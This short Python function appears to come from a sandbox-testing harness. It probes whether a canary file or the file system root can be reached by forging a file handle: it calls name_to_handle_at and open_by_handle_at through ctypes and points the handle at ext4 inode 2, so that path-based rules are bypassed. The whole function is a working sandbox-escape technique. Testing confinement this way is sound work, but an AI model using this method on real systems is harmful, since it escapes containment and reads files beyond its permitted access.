# Files opened by handle need no path, so no rule about paths sees them.
def solve(where):
    import ctypes

    handle = (ctypes.c_char * 136)()
    ctypes.cast(handle, ctypes.POINTER(ctypes.c_uint))[0] = 128
    mount = ctypes.c_int()
    attempt("name_to_handle_at of the canary", lambda: call(303, -100, ctypes.c_char_p(where["canary"].encode()), handle, ctypes.byref(mount), 0))
    try:
        call(303, -100, ctypes.c_char_p(os.__file__.encode()), handle, ctypes.byref(mount), 0)
        # The root of an ext4 file system is inode 2, generation 0.
        ctypes.cast(handle, ctypes.POINTER(ctypes.c_uint))[2] = 2
        ctypes.cast(handle, ctypes.POINTER(ctypes.c_uint))[3] = 0
    except OSError as refusal:
        note(f"name_to_handle_at: {refusal}")
    for path in (".", "/usr", os.path.dirname(os.__file__)):
        try:
            folder = os.open(path, os.O_RDONLY)
        except OSError as refusal:
            note(f"{path}: {refusal}")
            continue
        attempt(f"open_by_handle_at from {path}", lambda: call(304, folder, handle, 0))
    return report()
